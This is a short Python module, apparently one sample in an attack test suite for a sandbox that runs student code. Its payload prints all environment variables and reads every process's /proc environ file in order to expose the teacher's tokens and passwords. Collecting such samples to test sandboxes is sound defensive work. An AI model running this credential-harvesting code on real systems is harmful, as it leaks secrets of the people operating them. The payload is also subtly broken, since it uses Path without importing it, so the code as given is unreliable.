"""Prints the environment, where the teacher's tokens and passwords may stand."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Drukt de omgeving af, waar tokens en wachtwoorden van de docent kunnen staan.",
    code="""
import os
print(dict(os.environ))
for path in Path("/proc").glob("[0-9]*/environ"):
    try:
        print(path.read_text(errors="replace"))
    except OSError:
        pass
""",
)
